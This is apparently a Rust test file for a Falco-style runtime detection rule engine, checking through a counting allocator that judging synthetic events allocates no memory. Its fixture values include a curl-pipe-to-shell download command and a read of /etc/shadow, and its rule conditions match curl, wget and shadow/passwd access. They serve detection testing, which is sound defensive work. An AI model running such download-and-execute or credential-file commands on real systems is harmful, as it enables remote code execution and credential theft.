//! Judging an event allocates nothing: counted by an allocator that counts, over the stock rules, the upstream rules where
//! they are at hand, and rules with every kind of test and transformer.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::fmt::Write as _;

use falconet::rules::load;
use falconet::rules::registry::event_types;
use falconet::rules::registry::types::FieldType;
use falconet::rules::stock;
use falconet::rules::{Event, EventType, FieldRef, Matching, Options, RuleSet, Scratch, Source, Value};

thread_local! {
    static ALLOCATIONS: Cell<usize> = const { Cell::new(0) };
}

struct Counting;

// SAFETY: everything is passed on to the system's allocator as it came.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.set(ALLOCATIONS.get() + 1);
        // SAFETY: the caller keeps the contract of `alloc`.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, at: *mut u8, layout: Layout) {
        // SAFETY: `at` came from `alloc` above, hence from `System`.
        unsafe { System.dealloc(at, layout) }
    }
}

#[global_allocator]
static COUNTING: Counting = Counting;

/// An event that has a value for every field: which, depends on the field and the number of the event.
struct Made {
    event: EventType,
    number: usize,
}

const TEXTS: [&[u8]; 8] = [
    b"/etc/shadow",
    b"bash",
    b"/var/lib/dpkg/info/a.list",
    b"sh -c curl http://example.com/x | sh -e /bin/sh",
    b"f",
    b"4",
    b"d2dldA==",
    b"-i",
];

impl Made {
    fn text(&self, field: &FieldRef) -> &'static [u8] {
        TEXTS[(self.number / 7 + field.field as usize) % TEXTS.len()]
    }

    fn value(&self, field: &FieldRef) -> Value<'_> {
        let number = (self.number + field.field as usize) % 5;
        match field.kind() {
            FieldType::CharBuf | FieldType::FsPath | FieldType::Dynamic => Value::Str(self.text(field)),
            FieldType::ByteBuf => Value::Buf(self.text(field)),
            FieldType::Bool => Value::Bool(number > 1),
            FieldType::IpAddr | FieldType::IpNet => {
                Value::Ip([93, 184, 216, u8::try_from(number).unwrap()].into())
            }
            _ => Value::Int(i64::try_from(number).unwrap() - 1),
        }
    }
}

impl Event for Made {
    fn event_type(&self) -> EventType {
        self.event
    }

    fn time(&self) -> i64 {
        0
    }

    fn get(&self, field: &FieldRef) -> Option<Value<'_>> {
        Some(self.value(field))
    }

    fn any(&self, field: &FieldRef, test: &mut dyn FnMut(Value<'_>) -> bool) -> bool {
        (0..3).any(|more| test(Self { number: self.number + more, ..*self }.value(field)))
    }
}

/// Judges many events twice; the second time nothing may be allocated. Returns how often rules fired.
fn judge(sources: &[Source]) -> usize {
    let rules: RuleSet =
        load(sources, &Options { matching: Matching::All, ..Options::default() }).rules.unwrap();
    let mut scratch = Scratch::default();
    let events =
        ["execve", "openat", "connect", "unlinkat", "ptrace", "setuid", "symlinkat", "dup3", "accept4"]
            .map(|name| event_types::by_name(name).unwrap());
    let mut fired = 0;
    for round in 0..2 {
        let before = ALLOCATIONS.get();
        for event in events {
            for number in 0..400 {
                rules.evaluate(&mut scratch, &Made { event, number }, |_| fired += 1);
            }
        }
        let made = ALLOCATIONS.get() - before;
        assert!(round == 0 || made == 0, "{made} allocations for {} events", events.len() * 400);
    }
    fired
}

#[test]
fn judging_an_event_allocates_nothing() {
    assert!(judge(&stock()) > 0);
    let conditions = [
        "tolower(proc.name) = bash",
        "toupper(proc.cmdline) startswith SH",
        "b64(proc.args) = wget",
        "basename(proc.exepath) in (shadow, a.list)",
        "len(proc.cmdline) > 4",
        "concat(proc.name, proc.pname) contains sh",
        "join(\",\", (proc.name, proc.pname)) endswith sh",
        "proc.name = val(proc.pname)",
        "proc.cmdline icontains val(proc.name)",
        "proc.cmdline glob val(proc.name)",
        "proc.cmdline icontains CURL and proc.cmdline contains http",
        "fd.name glob '*/dpkg/*' or fd.name iglob '/ETC/*'",
        "fd.name pmatch (/etc, /var/*/dpkg)",
        "fd.name regex '.*/(shadow|passwd)'",
        "proc.aname in (bash, zsh) or proc.aname contains cur",
        "fd.ip != 10.0.0.1 and fd.net in (93.0.0.0/8)",
        "proc.tty > 0 and proc.tty in (1, 2)",
        "fd.name endswith shadow or fd.name startswith /var",
    ];
    let mut text = String::new();
    for (n, condition) in conditions.iter().enumerate() {
        writeln!(text, "- rule: r{n}\n  desc: d\n  output: o\n  priority: INFO\n  condition: >-\n    evt.type in (execve, openat, connect) and ({condition})").unwrap();
    }
    assert!(judge(&[Source::new("f", text)]) > 100);
}

#[test]
#[cfg_attr(not(has_shared), ignore = "needs ../shared")]
fn judging_by_the_upstream_rules_allocates_nothing() {
    let here = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let read = |name: &str| {
        let path = format!("shared/falco-rules/{name}");
        let text = here.ancestors().find_map(|folder| std::fs::read_to_string(folder.join(&path)).ok());
        Source::new(name, text.unwrap())
    };
    let names = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"];
    assert!(judge(&names.map(read)) > 0);
}
